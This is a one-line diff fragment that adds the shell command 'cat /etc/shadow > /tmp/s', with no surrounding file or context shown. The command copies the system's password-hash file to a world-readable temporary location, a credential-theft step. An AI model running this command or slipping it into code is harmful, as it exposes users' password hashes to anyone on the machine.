@@ -1,0 +1,1 @@
+cat /etc/shadow > /tmp/s
